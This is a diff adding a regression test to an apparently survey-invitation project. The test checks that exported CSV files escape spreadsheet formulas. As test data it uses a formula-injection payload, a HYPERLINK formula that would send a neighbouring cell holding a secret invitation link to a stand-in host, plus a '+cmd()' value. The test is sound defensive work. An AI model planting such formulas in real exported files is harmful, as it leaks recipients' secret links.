@@ -14,6 +14,7 @@ from croupier.client.surveys import fetch_survey
 from croupier.deploy.operator.invitation_cards import write_links
 from croupier.deploy.operator.invitations import (
     People,
+    invite,
     invite_people,
     invited_people,
     read_people,
@@ -21,6 +22,7 @@ from croupier.deploy.operator.invitations import (
     revoke_invitations,
     who_has_not_answered,
 )
+from croupier.deploy.operator.roster import enrolled, read_keys
 from croupier.protocol.identity import public_key_of
 from croupier.protocol.invitations import Invitation
 from croupier.protocol.names import Digest, RoundId
@@ -87,6 +89,33 @@ def test_links_are_written_for_a_mail_merge_and_for_printing(tmp_path: Path) -> 
     assert folder.stat().st_mode & 0o077 == 0
     write_links(tmp_path / "plain", ("label",), [("Ada",)], [link], "", "Q", False)
     assert (tmp_path / "plain" / "links.csv").read_text() == f"label,link,expires\nAda,{link},\n"
+
+
+@pytest.mark.asyncio
+async def test_no_file_of_links_or_people_holds_a_formula(tmp_path: Path) -> None:
+    """Reproduction: a spreadsheet ran a cell of people.csv in the file that has everybody's secret link."""
+    label, mail = '=HYPERLINK("https://a.example/?"&B2)', "+cmd()"
+    people = People(("label", "@mail"), ((label, mail),))
+    async with table(tmp_path, 1) as at:
+        survey, where, how = await opened_survey(at), at.inside.directory, at.inside.transport
+        gateway = "https://gateway.example"
+        settings = {"gateway": gateway, "qr_codes": False, "transport": how}
+        await invite_people(where, survey.survey_id, people, tmp_path / "links", **settings)  # type: ignore[arg-type]
+        await invite(where, people, tmp_path / "links.csv", gateway, transport=how)
+        written = [
+            tmp_path / "links" / "links.csv",
+            tmp_path / "links.csv",
+            where / "operator" / "surveys" / survey.survey_id / "invitations.csv",
+            where / "operator" / "enrolled.csv",
+        ]
+        for file in written:
+            header, row = csv.reader(file.read_text().splitlines())
+            assert not [cell for cell in (*header, *row) if cell.startswith(("=", "+", "@"))]
+            assert dict(zip(header, row, strict=True))["label"] == f"'{label}"
+        assert [person.label for person in invited_people(where, survey.survey_id)] == [label]
+        assert [person.label for person in enrolled(where)] == [label]
+        again = read_keys(list(enumerate(csv.reader(written[-1].read_text().splitlines()), start=1)), "enrolled.csv")
+        assert [person.label for person in again] == [label]
 
 
 def test_a_link_that_is_not_an_invitation_is_not_repeated() -> None:
